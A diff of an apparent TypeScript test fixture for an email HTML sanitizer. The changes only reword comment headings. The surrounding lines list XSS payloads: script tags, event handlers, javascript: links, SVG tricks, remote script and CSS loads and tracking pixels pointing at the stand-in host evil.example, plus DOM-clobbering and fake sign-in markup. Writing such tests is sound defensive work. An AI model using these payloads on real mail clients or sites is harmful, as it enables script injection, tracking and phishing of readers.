@@ -1,9 +1,9 @@
 /**
- * Messages that attack their reader, by the attack. Sources of the ideas: the public tests and advisories of Roundcube,
- * SnappyMail, Zimbra, sanitize-html and Tutanota, the HTML and CSS standards, and variations of them.
+ * Messages that attack their reader, by the attack. Sources: the public tests and advisories of Roundcube, SnappyMail,
+ * Zimbra, sanitize-html and Tutanota, the HTML and CSS standards, and variations of them.
  */
 export const hostileMessages: Record<string, string> = {
-  // Script, plainly and in disguise
+  // Scripts, plain and obfuscated
   script: '<script>alert(1)</script>',
   'script in upper case': '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
   'script with a slash': '<script/x>alert(1)</script>',
@@ -81,7 +81,7 @@ export const hostileMessages: Record<string, string> = {
   base: '<base href="javascript:/a/+alert(1)//"><a href="x">x</a>',
   'base for pictures': '<base href="https://evil.example/"><img src="x.png">',
 
-  // Loads
+  // Resource loads
   'remote img': '<img src="https://evil.example/pixel.gif" width=1 height=1>',
   'remote img without a scheme': '<img src="//evil.example/p">',
   'remote img with backslashes': '<img src="https:\\\\evil.example\\p"><img src="\\\\evil.example\\p">',
@@ -149,7 +149,7 @@ export const hostileMessages: Record<string, string> = {
   'sheet of our own names': '<style>.mp-message{display:none}html,body{position:fixed}</style>',
   'style link in svg': '<svg><style>@import "https://evil.example/s.css";</style></svg>',
 
-  // More ways to write a script
+  // More scripts
   'script with a null': '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
   'script within script': '<scr<script>ipt>alert(1)</scr</script>ipt>',
   'script as a module': '<script type="module">import("https://evil.example/m.js")</script>',
@@ -169,7 +169,7 @@ export const hostileMessages: Record<string, string> = {
   'template with a shadow root': '<div><template shadowrootmode="open"><img src=x onerror=alert(1)></template></div>',
   slot: '<slot name="x" onslotchange=alert(1)><img src=x onerror=alert(1)></slot>',
 
-  // More handlers
+  // More event handlers
   'handler with a form feed': '<img\u000csrc=x\u000conerror=alert(1)>',
   'handler in mixed case': '<iMg SrC=x OnErRoR=alert(1)>',
   'handler named twice': '<img onerror=x onerror=alert(1) src=x src=y>',
@@ -191,10 +191,10 @@ export const hostileMessages: Record<string, string> = {
     '<video onloadstart=alert(1) oncanplay=alert(1) src=data:video/mp4,><source onerror=alert(1) src=x></video>',
   'handlers of search': '<input type=search onsearch=alert(1) autofocus onfocusin=alert(1)>',
   'access key': '<a href="javascript:alert(1)" accesskey=x>x</a><div accesskey=y onclick=alert(1)>y</div>',
-  'handlers on the letter’s own root':
+  'handlers on the root of the message':
     '<html onclick=alert(1)><body onblur=alert(1) onresize=alert(1) onhashchange=alert(1)>x',
 
-  // More drawings and formulas
+  // More SVG and MathML
   'svg script by href': '<svg><script href="https://evil.example/x.js"></script></svg>',
   'svg a in xlink': '<svg><a xlink:href="javascript:alert(1)"><text x=0 y=20>x</text></a></svg>',
   'svg discard and handler': '<svg><discard onbegin=alert(1)><animatetransform onbegin=alert(1)></svg>',
@@ -254,7 +254,7 @@ export const hostileMessages: Record<string, string> = {
     '<img usemap="#m" src="cid:none"><map name=m><area shape=rect coords=0,0,9,9 href="https://evil.example/"></map>',
   'server image map': '<a href="https://evil.example/"><img ismap src="cid:none"></a>',
 
-  // More loads
+  // More resource loads
   'img with a sized source':
     '<img sizes="100vw" srcset="https://evil.example/w 100w" loading=eager fetchpriority=high>',
   'img crossorigin': '<img crossorigin=use-credentials src="https://evil.example/c">',
@@ -300,7 +300,7 @@ export const hostileMessages: Record<string, string> = {
   'math and link types':
     '<menu><li><a type="application/x" media="all" hreflang=x href="javascript:alert(1)">x</a></menu>',
 
-  // More style
+  // More CSS
   'style src()': '<p style="background:src(\'https://evil.example/s\')">x</p>',
   'style url with a string': '<p style="background:URL(\'https://evil.example/s\')">x</p>',
   'style url with odd blanks': '<p style="background:url(\n\f https://evil.example/s \n)">x</p>',
@@ -341,7 +341,7 @@ export const hostileMessages: Record<string, string> = {
   'sheet of another type': '<style type="text/less">p{background:url(//evil.example/z)}</style>',
   'sheet in the body, in a table': '<table><style>td{background:url(//evil.example/t)}</style><tr><td>x</table>',
 
-  // Words that would be read as ours
+  // Text that looks like our own
   'names of ours': '<div class="mp-message" id="content"><a name="parentNode">x</a><img name="cookie"></div>',
   'roles and labels':
     '<div role="alertdialog" aria-label="Session expired" aria-modal=true tabindex=1>Sign in again</div>',
